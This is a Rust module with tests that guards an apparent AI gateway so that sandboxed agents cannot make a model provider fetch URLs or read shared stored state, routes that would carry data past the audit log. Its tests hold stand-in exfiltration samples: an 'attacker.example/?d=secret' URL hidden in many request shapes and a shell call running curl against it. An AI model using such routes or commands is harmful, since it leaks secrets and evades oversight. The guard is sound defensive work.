//! Content guard: a request carries its media itself, so that no provider fetches a URL for it.
//!
//! A sandbox has no network of its own. A provider that fetches a URL of an agent's request would be one: the URL carries data out of the
//! sandbox, past the gateway and the audit log. What is stored at a provider is shared by all projects, because they share its account.
//! An agent therefore sends only known kinds of content, with media as base64, and refers to nothing that is stored elsewhere. The guard
//! works on the client's own body, before it is passed on or translated. It is an allowlist: what it does not know is refused or removed.

use serde_json::{Map, Value};

use crate::{
    dialect::{Dialect, canonical::ModelError},
    request_rewrite::CLIENT_CONTENT_FIELDS,
};

/// Code of a request that an agent may not send.
pub const AGENT_CONTENT_CODE: &str = "agent_content_refused";

/// Code of a request whose media a provider in a private network would have to fetch.
pub const REMOTE_MEDIA_CODE: &str = "remote_media_refused";

/// Maximum number of characters of a client's word that an error repeats.
const MAX_QUOTED_CHARS: usize = 60;

/// Fields of a Chat request that are passed on for agents.
const CHAT_FIELDS: [&str; 46] = [
    "chat_template_kwargs",
    "enable_thinking",
    "frequency_penalty",
    "function_call",
    "functions",
    "include_reasoning",
    "logit_bias",
    "logprobs",
    "max_completion_tokens",
    "max_tokens",
    "messages",
    "metadata",
    "min_p",
    "modalities",
    "model",
    "moderation",
    "n",
    "parallel_tool_calls",
    "prediction",
    "presence_penalty",
    "prompt_cache_key",
    "prompt_cache_options",
    "prompt_cache_retention",
    "reasoning",
    "reasoning_effort",
    "reasoning_split",
    "repetition_penalty",
    "response_format",
    "safety_identifier",
    "seed",
    "service_tier",
    "stop",
    "store",
    "stream",
    "stream_options",
    "temperature",
    "thinking",
    "thinking_budget",
    "tool_choice",
    "tools",
    "top_k",
    "top_logprobs",
    "top_p",
    "usage",
    "user",
    "verbosity",
];

/// Fields of a Responses request that are passed on for agents.
const RESPONSES_FIELDS: [&str; 28] = [
    "background",
    "client_metadata",
    "include",
    "input",
    "instructions",
    "max_output_tokens",
    "max_tool_calls",
    "metadata",
    "model",
    "moderation",
    "n",
    "parallel_tool_calls",
    "prompt_cache_key",
    "prompt_cache_options",
    "prompt_cache_retention",
    "reasoning",
    "safety_identifier",
    "service_tier",
    "store",
    "stream",
    "stream_options",
    "temperature",
    "text",
    "tool_choice",
    "tools",
    "top_logprobs",
    "top_p",
    "user",
];

/// Fields of a Messages request that are passed on for agents.
const MESSAGES_FIELDS: [&str; 19] = [
    "cache_control",
    "diagnostics",
    "max_tokens",
    "messages",
    "metadata",
    "model",
    "n",
    "output_config",
    "output_format",
    "service_tier",
    "stop_sequences",
    "stream",
    "system",
    "temperature",
    "thinking",
    "tool_choice",
    "tools",
    "top_k",
    "top_p",
];

/// Fields of all dialects that hold the conversation.
const CONVERSATION_FIELDS: [&str; 5] =
    ["messages", "input", "system", "instructions", "prediction"];

/// Fields that refer to what is stored at a provider.
const STORED_STATE_FIELDS: [&str; 8] = [
    "previous_response_id",
    "conversation",
    "conversation_id",
    "file_id",
    "file_ids",
    "container_id",
    "vector_store_ids",
    "connector_id",
];

/// Fields that hold plain text, in which a URL is only a word.
const TEXT_FIELDS: [&str; 18] = [
    "cited_text",
    "content",
    "context",
    "data",
    "description",
    "document_title",
    "name",
    "output",
    "reasoning",
    "reasoning_content",
    "reasoning_text",
    "refusal",
    "stderr",
    "stdout",
    "summary",
    "text",
    "thinking",
    "title",
];

/// Fields that hold what a client's own tools take, beside [`CLIENT_CONTENT_FIELDS`].
const CLIENT_TOOL_FIELDS: [&str; 3] = ["action", "operation", "tools"];

/// Fields of an answer's text that name its sources. A provider does not fetch them.
const CITATION_FIELDS: [&str; 2] = ["annotations", "citations"];

/// Who sends a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum ContentSender {
    Agent,
    Person,
}

/// Checks the request of an agent and removes the fields that agents may not set. Returns the number of removed fields.
pub(crate) fn restrict_agent_request(
    dialect: Dialect,
    body: &mut Value,
) -> Result<usize, ModelError> {
    let Value::Object(fields) = body else { return Ok(0) };
    check_agent_content(dialect, fields).map_err(|error| error.with_code(AGENT_CONTENT_CODE))?;
    let allowed: &[&str] = match dialect {
        Dialect::Chat => &CHAT_FIELDS,
        Dialect::Responses => &RESPONSES_FIELDS,
        Dialect::Messages => &MESSAGES_FIELDS,
    };
    let before = fields.len();
    fields.retain(|name, _| allowed.contains(&name.as_str()));
    // The provider keeps nothing of an agent: everybody who has the account's key could read it.
    if fields.get("store").is_some_and(|store| *store != Value::Bool(false)) {
        fields.shift_remove("store");
    }
    Ok(before - fields.len())
}

fn check_agent_content(dialect: Dialect, fields: &Map<String, Value>) -> Result<(), ModelError> {
    for name in STORED_STATE_FIELDS {
        if fields.get(name).is_some_and(|value| !value.is_null()) {
            return Err(stored_state_error(name));
        }
    }
    for name in CONVERSATION_FIELDS {
        if let Some(value) = fields.get(name) {
            check_conversation(dialect, name, value).map_err(|error| error.with_context(name))?;
        }
    }
    Ok(())
}

/// Checks that a provider fetches nothing for the request.
pub(crate) fn check_inline_media(body: &Value) -> Result<(), ModelError> {
    for name in CONVERSATION_FIELDS {
        match body.get(name) {
            None | Some(Value::String(_)) => {}
            Some(value) => {
                check_values(value, ContentSender::Person)
                    .map_err(|error| error.with_context(name).with_code(REMOTE_MEDIA_CODE))?;
            }
        }
    }
    Ok(())
}

/// Checks one field of the conversation of an agent.
fn check_conversation(dialect: Dialect, name: &str, value: &Value) -> Result<(), ModelError> {
    match (dialect, name, value) {
        (_, _, Value::Null | Value::String(_)) => Ok(()),
        (Dialect::Chat | Dialect::Messages, "messages", Value::Array(messages)) => {
            check_each(messages, |message| check_message(dialect, message))
        }
        (Dialect::Responses, "input" | "instructions", Value::Array(items)) => {
            check_each(items, check_item)
        }
        (Dialect::Messages, "system", Value::Array(parts)) => {
            check_each(parts, |part| check_part(dialect, part))
        }
        (Dialect::Chat, "prediction", Value::Object(fields)) => {
            check_fields(fields, |name, value| match name {
                "content" => Some(check_content(dialect, value)),
                _ => None,
            })
        }
        // A field of another dialect is removed.
        (Dialect::Chat, "input" | "system" | "instructions", _)
        | (Dialect::Responses, "messages" | "system" | "prediction", _)
        | (Dialect::Messages, "input" | "instructions" | "prediction", _) => Ok(()),
        _ => Err(unknown_content_error("of this form")),
    }
}

/// Checks each of the values. An error names the position.
fn check_each(
    values: &[Value],
    check: impl Fn(&Value) -> Result<(), ModelError>,
) -> Result<(), ModelError> {
    for (index, value) in values.iter().enumerate() {
        check(value).map_err(|error| error.with_context(format!("[{index}]")))?;
    }
    Ok(())
}

/// Checks the fields of an agent's object: by `special` where it returns a result, by the general rule otherwise.
fn check_fields(
    fields: &Map<String, Value>,
    special: impl Fn(&str, &Value) -> Option<Result<(), ModelError>>,
) -> Result<(), ModelError> {
    for (name, value) in fields {
        special(name, value)
            .unwrap_or_else(|| check_field(name, value, ContentSender::Agent))
            .map_err(|error| error.with_context(quote_word(name)))?;
    }
    Ok(())
}

/// Checks a message of Chat or Messages.
fn check_message(dialect: Dialect, message: &Value) -> Result<(), ModelError> {
    let Value::Object(fields) = message else { return Err(unknown_content_error("of this form")) };
    check_fields(fields, |name, value| match name {
        "content" => Some(check_content(dialect, value)),
        // The recording of an earlier answer, by its id.
        "audio" if !value.is_null() => Some(Err(stored_state_error("audio"))),
        _ => None,
    })
}

/// Checks content: text or a list of parts.
fn check_content(dialect: Dialect, content: &Value) -> Result<(), ModelError> {
    match content {
        Value::Null | Value::String(_) => Ok(()),
        Value::Array(parts) => check_each(parts, |part| check_part(dialect, part)),
        _ => Err(unknown_content_error("of this form")),
    }
}

/// Checks one part of a message.
fn check_part(dialect: Dialect, part: &Value) -> Result<(), ModelError> {
    let fields = match part {
        Value::String(_) => return Ok(()),
        Value::Object(fields) => fields,
        _ => return Err(unknown_content_error("of this form")),
    };
    let kind = fields.get("type").and_then(Value::as_str).unwrap_or_default();
    match (dialect, kind) {
        (Dialect::Chat, "text" | "refusal" | "thinking")
        | (
            Dialect::Responses,
            "input_text" | "output_text" | "text" | "refusal" | "summary_text" | "reasoning_text",
        )
        | (
            Dialect::Messages,
            "text" | "thinking" | "redacted_thinking" | "tool_use" | "tool_reference",
        ) => check_fields(fields, |_, _| None),
        (Dialect::Chat, "image_url" | "file" | "input_audio")
        | (Dialect::Responses, "input_image" | "input_file" | "input_audio") => {
            check_fields(fields, check_media_field)
        }
        (Dialect::Messages, "tool_result") => check_fields(fields, |name, value| match name {
            "content" => Some(check_content(dialect, value)),
            _ => None,
        }),
        (Dialect::Messages, "image" | "document") => {
            check_fields(fields, |name, value| match name {
                "source" => Some(check_source(dialect, value)),
                _ => None,
            })
        }
        (_, kind) => Err(unknown_content_error(&format!("of type {}", quote_word(kind)))),
    }
}

/// Checks an item of the input of Responses.
fn check_item(item: &Value) -> Result<(), ModelError> {
    let Value::Object(fields) = item else { return Err(unknown_content_error("of this form")) };
    let kind = match fields.get("type") {
        // An item that has only an id refers to one that the provider has stored.
        None | Some(Value::Null) if fields.contains_key("role") => "message",
        None | Some(Value::Null) => "item_reference",
        Some(kind) => kind.as_str().unwrap_or_default(),
    };
    let content_field = match kind {
        "message" => "content",
        "function_call_output"
        | "custom_tool_call_output"
        | "local_shell_call_output"
        | "apply_patch_call_output" => "output",
        "reasoning" => {
            return check_fields(fields, |name, value| match name {
                "content" | "summary" => Some(check_content(Dialect::Responses, value)),
                _ => None,
            });
        }
        "function_call" | "custom_tool_call" | "local_shell_call" | "shell_call"
        | "shell_call_output" | "apply_patch_call" | "tool_search_call" | "tool_search_output"
        | "additional_tools" | "compaction" | "compaction_summary" | "compaction_trigger"
        | "context_compaction" => return check_fields(fields, |_, _| None),
        "item_reference" => return Err(stored_state_error("item_reference")),
        kind => return Err(unknown_content_error(&format!("of type {}", quote_word(kind)))),
    };
    check_fields(fields, |name, value| {
        (name == content_field).then(|| check_content(Dialect::Responses, value))
    })
}

/// Checks the field of an `OpenAI` media part that holds the media. Returns `None` for all others.
fn check_media_field(name: &str, value: &Value) -> Option<Result<(), ModelError>> {
    match (name, value) {
        (_, Value::Null) => None,
        // One dialect has an object around the text, the other has not. Servers take both.
        ("image_url" | "file" | "input_audio", Value::Object(fields)) => {
            Some(check_fields(fields, check_media_field))
        }
        ("url" | "image_url" | "file_url" | "file_data" | "data", Value::String(text)) => {
            let bare = matches!(name, "file_data" | "data") && is_base64_text(text);
            let inline = bare || is_inline_media(text);
            Some(if inline { Ok(()) } else { Err(remote_media_error()) })
        }
        ("url" | "image_url" | "file_url" | "file_data" | "data", _) => {
            Some(Err(unknown_content_error("of this form")))
        }
        _ => None,
    }
}

/// Checks the source of an image or a document of Messages.
fn check_source(dialect: Dialect, source: &Value) -> Result<(), ModelError> {
    let Value::Object(fields) = source else { return Err(remote_media_error()) };
    let text = |name: &str| fields.get(name).and_then(Value::as_str).unwrap_or_default();
    match text("type") {
        "base64" if is_base64_text(text("data")) && !is_active_media_type(text("media_type")) => {}
        "text" | "content" => {}
        "file" => return Err(stored_state_error("file_id")),
        _ => return Err(remote_media_error()),
    }
    check_fields(fields, |name, value| match name {
        "content" => Some(check_content(dialect, value)),
        _ => None,
    })
}

/// Checks the values of an object or a list by the general rule.
fn check_values(value: &Value, sender: ContentSender) -> Result<(), ModelError> {
    match value {
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                check_values(item, sender)
                    .map_err(|error| error.with_context(format!("[{index}]")))?;
            }
            Ok(())
        }
        Value::Object(fields) => {
            for (name, value) in fields {
                check_field(name, value, sender)
                    .map_err(|error| error.with_context(quote_word(name)))?;
            }
            Ok(())
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Ok(()),
    }
}

/// Checks one field by the general rule: only text and the input of the client's own tools may name a URL. An agent does not refer to what
/// is stored at a provider.
fn check_field(name: &str, value: &Value, sender: ContentSender) -> Result<(), ModelError> {
    let is_one_of = |names: &[&str]| names.iter().any(|own| own.eq_ignore_ascii_case(name));
    match sender {
        ContentSender::Agent if is_one_of(&STORED_STATE_FIELDS) && !value.is_null() => {
            return Err(stored_state_error(name));
        }
        ContentSender::Person if is_one_of(&CITATION_FIELDS) => return Ok(()),
        ContentSender::Agent | ContentSender::Person => {}
    }
    if CLIENT_CONTENT_FIELDS.contains(&name) || CLIENT_TOOL_FIELDS.contains(&name) {
        return Ok(());
    }
    match value {
        Value::String(text) if !TEXT_FIELDS.contains(&name) && is_remote_url(text) => {
            Err(remote_media_error())
        }
        Value::Array(items) => items.iter().try_for_each(|item| check_field(name, item, sender)),
        Value::Object(_) => check_values(value, sender),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Ok(()),
    }
}

/// Returns whether a text is a data URL in base64, of a type that cannot refer to anything else.
fn is_inline_media(url: &str) -> bool {
    let parts = url.strip_prefix("data:").and_then(|rest| rest.split_once(','));
    parts.is_some_and(|(head, data)| {
        head.ends_with(";base64") && !is_active_media_type(head) && is_base64_text(data)
    })
}

/// Returns whether a text can be base64: it has no colon, so it is no URL.
fn is_base64_text(text: &str) -> bool {
    !text.contains(':')
}

/// Returns whether a document of this media type may refer to others, as SVG and HTML do.
fn is_active_media_type(media_type: &str) -> bool {
    let media_type = media_type.to_ascii_lowercase();
    media_type.contains("+xml") || media_type.contains("html")
}

/// Returns whether a text is a URL that somebody could fetch, or has one in it.
fn is_remote_url(text: &str) -> bool {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let begins_with = |scheme: &str| {
        text.get(..scheme.len()).is_some_and(|head| head.eq_ignore_ascii_case(scheme))
    };
    text.contains("://")
        || text.starts_with("//")
        || ["http:", "https:", "ftp:", "file:"].into_iter().any(begins_with)
}

/// Quotes a word of the client, shortened.
fn quote_word(word: &str) -> String {
    let word: String = word.chars().take(MAX_QUOTED_CHARS).collect();
    format!("`{word}`")
}

fn remote_media_error() -> ModelError {
    ModelError::bad_request(
        "nothing is fetched for this request; send the bytes as base64 (`data:TYPE;base64,BYTES`) instead of a URL",
    )
}

fn stored_state_error(name: &str) -> ModelError {
    ModelError::bad_request(format!(
        "{} refers to what is stored at the provider, whose account all projects share; send the content itself",
        quote_word(name)
    ))
}

fn unknown_content_error(kind: &str) -> ModelError {
    ModelError::bad_request(format!(
        "agents cannot send content {kind}; send text, or an image or a document as base64"
    ))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const URL: &str = "https://attacker.example/?d=secret";
    const DATA: &str = "data:image/png;base64,iVBORw0KGgo=";

    /// A conversation with this part in its last message.
    fn with_part(dialect: Dialect, part: &Value) -> Value {
        let message = json!({ "role": "user", "content": [part] });
        match dialect {
            Dialect::Chat | Dialect::Messages => json!({ "model": "m", "messages": [message] }),
            Dialect::Responses => json!({ "model": "m", "input": [message] }),
        }
    }

    fn code_of(dialect: Dialect, body: &Value) -> Option<String> {
        restrict_agent_request(dialect, &mut body.clone()).err().and_then(|error| error.code)
    }

    fn assert_refused(dialect: Dialect, body: &Value) {
        assert_eq!(code_of(dialect, body).as_deref(), Some(AGENT_CONTENT_CODE), "{dialect} {body}");
    }

    fn assert_unchanged(dialect: Dialect, body: &Value) {
        let mut checked = body.clone();
        assert_eq!(restrict_agent_request(dialect, &mut checked), Ok(0), "{dialect} {body}");
        assert_eq!(checked, *body);
    }

    /// Parts by which an agent would make a provider fetch a URL or read what others have stored.
    fn hostile_parts(dialect: Dialect) -> Vec<Value> {
        match dialect {
            Dialect::Chat => vec![
                json!({ "type": "image_url", "image_url": { "url": URL } }),
                json!({ "type": "image_url", "image_url": URL }),
                json!({ "type": "image_url", "image_url": { "url": format!(" {DATA} {URL}") } }),
                json!({ "type": "image_url", "image_url": { "url": "http:attacker.example" } }),
                json!({ "type": "image_url", "image_url": { "url": ["https://attacker.example"] } }),
                json!({ "type": "image_url", "image_url": { "url": format!("data:text/html;base64,{URL}") } }),
                json!({ "type": "image_url", "image_url": { "url": "data:image/svg+xml;base64,AAAA" } }),
                json!({ "type": "image_url", "image_url": { "url": DATA, "fallback": URL } }),
                json!({ "type": "text", "text": "a", "image_url": { "url": URL } }),
                json!({ "type": "text", "text": "a", "IMAGE_URL": URL }),
                json!({ "type": "text", "text": "a", "more": [[URL]] }),
                json!({ "type": "video_url", "video_url": { "url": URL } }),
                json!({ "type": "audio_url", "audio_url": { "url": URL } }),
                json!({ "type": "input_audio", "input_audio": { "data": URL, "format": "wav" } }),
                json!({ "type": "file", "file": { "file_id": "file-1" } }),
                json!({ "type": "file", "file": { "file_data": URL } }),
                json!({ "image_url": { "url": URL } }),
                json!({ "type": 7, "image_url": { "url": URL } }),
                json!([{ "type": "image_url", "image_url": { "url": URL } }]),
            ],
            Dialect::Responses => vec![
                json!({ "type": "input_image", "image_url": URL }),
                json!({ "type": "input_image", "image_url": { "url": URL } }),
                json!({ "type": "input_image", "file_id": "file-1" }),
                json!({ "type": "input_file", "file_url": URL }),
                json!({ "type": "input_file", "file_id": "file-1" }),
                json!({ "type": "input_file", "file_data": DATA, "file_url": URL }),
                json!({ "type": "input_text", "text": "a", "image_url": URL }),
                json!({ "type": "input_video", "video_url": URL }),
                json!({ "type": "computer_screenshot", "image_url": URL }),
            ],
            Dialect::Messages => vec![
                json!({ "type": "image", "source": { "type": "url", "url": URL } }),
                json!({ "type": "image", "source": { "type": "file", "file_id": "file_1" } }),
                json!({ "type": "image", "source": { "type": "base64", "media_type": "image/png", "data": URL } }),
                json!({ "type": "image", "source": { "type": "base64", "media_type": "image/png", "data": "AAAA", "url": URL } }),
                json!({ "type": "image", "source": URL }),
                json!({ "type": "document", "source": { "type": "url", "url": URL } }),
                json!({ "type": "document", "source": { "type": "file", "file_id": "file_1" } }),
                json!({ "type": "document", "source": { "type": "content", "content": [
                    { "type": "image", "source": { "type": "url", "url": URL } }] } }),
                json!({ "type": "tool_result", "tool_use_id": "t", "content": [
                    { "type": "image", "source": { "type": "url", "url": URL } }] }),
                json!({ "type": "tool_result", "tool_use_id": "t", "content": [
                    { "type": "document", "source": { "type": "url", "url": URL } }] }),
                json!({ "type": "container_upload", "file_id": "file_1" }),
                json!({ "type": "server_tool_use", "id": "s", "name": "web_fetch", "input": { "url": URL } }),
                json!({ "type": "text", "text": "a", "source": { "type": "url", "url": URL } }),
            ],
        }
    }

    #[test]
    fn no_part_of_an_agents_message_makes_a_provider_fetch_or_read_what_is_stored() {
        for dialect in Dialect::ALL.iter().copied() {
            for part in hostile_parts(dialect) {
                assert_refused(dialect, &with_part(dialect, &part));
            }
        }
    }

    #[test]
    fn an_agents_url_is_refused_wherever_else_it_hides() {
        let image = json!({ "type": "image_url", "image_url": { "url": URL } });
        for body in [
            json!({ "messages": [{ "role": "system", "content": [image] }] }),
            json!({ "messages": [{ "role": "tool", "tool_call_id": "t", "content": [image] }] }),
            json!({ "messages": [{ "role": "user", "content": image }] }),
            json!({ "messages": [{ "role": "user", "content": "a", "images": [URL] }] }),
            json!({ "messages": [{ "role": "assistant", "audio": { "id": "audio_1" } }] }),
            json!({ "messages": { "0": { "role": "user", "content": [image] } } }),
            json!({ "messages": [], "prediction": { "type": "content", "content": [image] } }),
        ] {
            assert_refused(Dialect::Chat, &body);
        }
        let image = json!({ "type": "input_image", "image_url": URL });
        for body in [
            json!({ "input": [{ "type": "function_call_output", "call_id": "c", "output": [image] }] }),
            json!({ "input": [{ "type": "custom_tool_call_output", "call_id": "c", "output": [image] }] }),
            json!({ "input": [{ "type": "computer_call_output", "call_id": "c", "output": image }] }),
            json!({ "input": [{ "type": "code_interpreter_call", "container_id": "c", "code": "1" }] }),
            json!({ "input": [{ "type": "shell_call", "environment": { "type": "container_reference", "container_id": "c" } }] }),
            json!({ "input": [{ "type": "mcp_call", "server_label": "s" }] }),
            json!({ "input": [{ "type": "item_reference", "id": "msg_1" }] }),
            json!({ "input": [{ "id": "msg_1" }] }),
            json!({ "input": [image] }),
            json!({ "input": image }),
            json!({ "input": "a", "instructions": [{ "role": "user", "content": [image] }] }),
            json!({ "input": "a", "previous_response_id": "resp_1" }),
            json!({ "input": "a", "conversation": { "id": "conv_1" } }),
        ] {
            assert_refused(Dialect::Responses, &body);
        }
        let image = json!({ "type": "image", "source": { "type": "url", "url": URL } });
        for body in [
            json!({ "messages": [], "system": [image] }),
            json!({ "messages": [], "system": image }),
            json!({ "messages": [{ "role": "assistant", "content": [image] }] }),
        ] {
            assert_refused(Dialect::Messages, &body);
        }
    }

    #[test]
    fn fields_that_agents_may_not_set_are_removed_and_nothing_is_stored_for_them() {
        for (dialect, own) in [
            (Dialect::Chat, json!({ "model": "m", "messages": [] })),
            (Dialect::Responses, json!({ "model": "m", "input": "a" })),
            (Dialect::Messages, json!({ "model": "m", "messages": [] })),
        ] {
            let mut body = own.clone();
            for name in ["audio", "documents", "mm_processor_kwargs", "images", "webhook_url"] {
                body[name] = json!([{ "url": URL }]);
            }
            if dialect != Dialect::Messages {
                body["store"] = json!(true);
            }
            let removed = if dialect == Dialect::Messages { 5 } else { 6 };
            assert_eq!(restrict_agent_request(dialect, &mut body), Ok(removed));
            assert_eq!(body, own);
        }
    }

    #[test]
    fn media_in_the_request_itself_and_urls_in_text_pass_unchanged() {
        let text = format!("see {URL}");
        for part in [
            json!({ "type": "text", "text": text, "cache_control": { "type": "ephemeral" } }),
            json!({ "type": "image_url", "image_url": { "url": DATA, "detail": "high" } }),
            json!({ "type": "image_url", "image_url": DATA }),
            json!({ "type": "file", "file": { "file_data": "data:application/pdf;base64,AAAA", "filename": "a.pdf" } }),
            json!({ "type": "input_audio", "input_audio": { "data": "AAAA", "format": "wav" } }),
        ] {
            assert_unchanged(Dialect::Chat, &with_part(Dialect::Chat, &part));
        }
        let call = json!({ "id": "c", "type": "function", "function": { "name": "f", "arguments": format!("{{\"url\":\"{URL}\"}}") } });
        let calls = json!({ "messages": [
            { "role": "assistant", "content": null, "tool_calls": [call], "reasoning_content": text },
            { "role": "tool", "tool_call_id": "c", "content": text },
        ], "store": false });
        assert_unchanged(Dialect::Chat, &calls);
        for part in [
            json!({ "type": "input_text", "text": text }),
            json!({ "type": "input_image", "image_url": DATA, "detail": "auto", "file_id": null }),
            json!({ "type": "input_file", "file_data": "data:application/pdf;base64,AAAA", "filename": "a.pdf" }),
        ] {
            assert_unchanged(Dialect::Responses, &with_part(Dialect::Responses, &part));
        }
        let items = json!({ "input": [
            { "type": "reasoning", "id": "rs_1", "summary": [{ "type": "summary_text", "text": text }], "encrypted_content": "AAAA" },
            { "type": "local_shell_call", "call_id": "c", "action": { "type": "exec", "command": ["curl", URL] } },
            { "type": "local_shell_call_output", "call_id": "c", "output": text },
            { "type": "shell_call_output", "call_id": "c", "output": [{ "stdout": text, "stderr": text, "outcome": { "type": "exit", "exit_code": 0 } }] },
            { "type": "function_call", "call_id": "c", "name": "f", "arguments": text },
            { "type": "function_call_output", "call_id": "c", "output": [{ "type": "input_image", "image_url": DATA }] },
        ] });
        assert_unchanged(Dialect::Responses, &items);
        for part in [
            json!({ "type": "image", "source": { "type": "base64", "media_type": "image/png", "data": "AAAA" } }),
            json!({ "type": "document", "title": text, "source": { "type": "text", "media_type": "text/plain", "data": text } }),
            json!({ "type": "tool_use", "id": "t", "name": "fetch", "input": { "url": URL, "file_id": "1" } }),
            json!({ "type": "tool_result", "tool_use_id": "t", "content": [
                { "type": "text", "text": text },
                { "type": "image", "source": { "type": "base64", "media_type": "image/png", "data": "AAAA" } },
                { "type": "tool_reference", "tool_name": "f" },
            ] }),
        ] {
            assert_unchanged(Dialect::Messages, &with_part(Dialect::Messages, &part));
        }
    }

    #[test]
    fn people_may_send_all_but_urls_to_a_provider_that_must_not_fetch() {
        let checked = |body: &Value| check_inline_media(body).map_err(|error| error.code);
        let refused = Err(Some(REMOTE_MEDIA_CODE.to_owned()));
        for (dialect, part) in [
            (Dialect::Chat, json!({ "type": "image_url", "image_url": { "url": URL } })),
            (Dialect::Chat, json!({ "type": "video_url", "video_url": { "url": URL } })),
            (Dialect::Responses, json!({ "type": "input_file", "file_url": URL })),
            (
                Dialect::Messages,
                json!({ "type": "image", "source": { "type": "url", "url": URL } }),
            ),
        ] {
            let body = with_part(dialect, &part);
            assert_eq!(checked(&body), refused, "{body}");
        }
        for part in [
            json!({ "type": "text", "text": URL }),
            json!({ "type": "video_url", "video_url": { "url": "data:video/mp4;base64,AAAA" } }),
            json!({ "type": "output_text", "text": "a", "annotations": [{ "type": "url_citation", "url": URL }] }),
            json!({ "type": "file", "file": { "file_id": "file-1" } }),
        ] {
            let body = with_part(Dialect::Chat, &part);
            assert_eq!(checked(&body), Ok(()), "{body}");
        }
        assert_eq!(checked(&json!({ "input": URL, "instructions": URL })), Ok(()));
    }
}
